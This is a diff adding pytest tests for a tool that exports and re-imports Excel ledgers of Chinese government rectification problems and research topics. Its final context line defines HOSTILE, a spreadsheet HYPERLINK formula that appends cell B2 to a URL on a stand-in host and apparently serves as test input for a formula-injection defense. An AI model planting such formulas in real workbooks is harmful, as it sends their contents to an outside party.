@@ -153,6 +153,91 @@ def test_several_returned_files_in_one_command(repo: Path, tmp_path: Path, capsy
     assert "P-028 的新措施" in (repo / "problems" / "xiling-county.yaml").read_text(encoding="utf-8")
 
 
+
+def test_two_offices_copies_of_one_ledger_each_bring_their_own_edit(repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """The whole ledger sent to every unit: the rows a unit left as they were are not a second edit."""
+    whole = _export(capsys, repo, tmp_path / "all.xlsx", "--kind", "problems")
+    for ident, name in (("P-002", "a.xlsx"), ("P-028", "b.xlsx")):
+        book = load_workbook(whole)
+        sheet = book["问题清单"]
+        sheet.cell(row=_row(sheet, ident), column=_column(sheet, "整改措施")).value = f"{ident} 的新措施"
+        book.save(tmp_path / name)
+    ran = dy(capsys, repo, "import", str(tmp_path / "a.xlsx"), str(tmp_path / "b.xlsx"), "--dry-run")
+    assert ran.code == 0, ran.err
+    assert "修改 2 条记录" in ran.out and "已出现过" not in ran.err
+    book = load_workbook(tmp_path / "b.xlsx")
+    sheet = book["问题清单"]
+    sheet.cell(row=_row(sheet, "P-002"), column=_column(sheet, "整改措施")).value = "另一个单位也改了"
+    book.save(tmp_path / "b.xlsx")
+    ran = dy(capsys, repo, "import", str(tmp_path / "a.xlsx"), str(tmp_path / "b.xlsx"), "--dry-run")
+    assert ran.code == 1 and "P-002" in ran.err and "已出现过" in ran.err, ran.err
+
+
+def test_a_row_the_unit_left_alone_is_no_conflict_when_its_record_changed(repo: Path, tmp_path: Path,
+                                                                         capsys: pytest.CaptureFixture[str]) -> None:
+    """Rows are compared with the cells as exported, not with the record as it is now."""
+    book = load_workbook(_export(capsys, repo, tmp_path / "xl.xlsx", "--unit", "xiling-county", "--kind", "problems"))
+    sheet = book["问题清单"]
+    sheet.cell(row=_row(sheet, "P-028"), column=_column(sheet, "整改措施")).value = "新措施"
+    book.save(tmp_path / "back.xlsx")
+    path = repo / "problems" / "xiling-county.yaml"
+    text = path.read_text(encoding="utf-8")
+    assert "推进周边乡镇污水管网接入，" in text  # P-030, changed by the office after the export
+    path.write_text(text.replace("推进周边乡镇污水管网接入，", "推进周边乡镇污水管网全部接入，"), encoding="utf-8")
+    ran = dy(capsys, repo, "import", str(tmp_path / "back.xlsx"))
+    assert ran.code == 0, ran.err
+    assert "修改 1 条记录" in ran.out and "冲突" not in ran.err
+    text = path.read_text(encoding="utf-8")
+    assert "新措施" in text and "推进周边乡镇污水管网全部接入，" in text
+
+
+def test_a_unit_may_write_yi_xiaohao_in_the_closed_column(repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    book = load_workbook(_export(capsys, repo, tmp_path / "xl.xlsx", "--unit", "xiling-county", "--kind", "problems"))
+    sheet = book["问题清单"]
+    row = _row(sheet, "P-032")
+    sheet.cell(row=row, column=_column(sheet, "是否销号")).value = "已销号"
+    sheet.cell(row=row, column=_column(sheet, "销号时间")).value = dt.datetime(2023, 12, 20)
+    sheet.cell(row=row, column=_column(sheet, "销号依据")).value = "薄弱村占比降至18%。"
+    book.save(tmp_path / "back.xlsx")
+    ran = dy(capsys, repo, "import", str(tmp_path / "back.xlsx"))
+    assert ran.code == 0, ran.err
+    assert "是否销号：否 → 是" in ran.out
+    problems = {e.record.id: e.record for e in load_repository(repo, SUITE).repo.entries("problem")}
+    assert problems["P-032"].closed_on.first == dt.date(2023, 12, 20)  # type: ignore[attr-defined]
+
+
+def test_a_row_with_an_unknown_name_also_reports_its_other_reasons(repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    book = load_workbook(_export(capsys, repo, tmp_path / "xl.xlsx", "--unit", "xiling-county", "--kind", "problems"))
+    sheet = book["问题清单"]
+    row = _row(sheet, "P-031")
+    sheet.cell(row=row, column=_column(sheet, "牵头领导")).value = "王某"
+    sheet.cell(row=row, column=_column(sheet, "整改方式")).value = "马上改"
+    sheet.cell(row=row, column=_column(sheet, "整改时限")).value = "abc"
+    book.save(tmp_path / "back.xlsx")
+    before = snapshot(repo)
+    ran = dy(capsys, repo, "import", str(tmp_path / "back.xlsx"))
+    assert ran.code == 1
+    lines = [line for line in ran.err.splitlines() if f"第{row}行" in line]
+    assert any("王某" in line for line in lines) and any("马上改" in line for line in lines) and any("abc" in line for line in lines), ran.err
+    assert snapshot(repo) == before
+    ledger = _ledger(tmp_path / "new.xlsx", ["问题", "责任单位", "整改方式", "整改时限"], [["新问题", "不存在局", "马上改", "abc"]])
+    ran = dy(capsys, repo, "import", str(ledger))
+    assert ran.code == 1 and all(words in ran.err for words in ("不存在局", "马上改", "abc")), ran.err
+    assert snapshot(repo) == before
+
+
+def test_the_evaluating_unit_is_shown_and_read_back_by_name(repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    book = load_workbook(_export(capsys, repo, tmp_path / "t.xlsx", "--kind", "topics"))
+    sheet = book["调研课题"]
+    column = _column(sheet, "评审·评审单位或人")
+    assert sheet.cell(row=_row(sheet, "T-004"), column=column).value == "市委宣传部"
+    sheet.cell(row=_row(sheet, "T-004"), column=column).value = "市委组织部"
+    book.save(tmp_path / "back.xlsx")
+    ran = dy(capsys, repo, "import", str(tmp_path / "back.xlsx"))
+    assert ran.code == 0, ran.err
+    topics = {e.record.id: e.record for e in load_repository(repo, SUITE).repo.entries("topic")}
+    assert topics["T-004"].evaluation.by == "zzb"  # type: ignore[attr-defined]
+
 HOSTILE = '=HYPERLINK("http://example.invalid/?"&B2,"点击")'
 
 
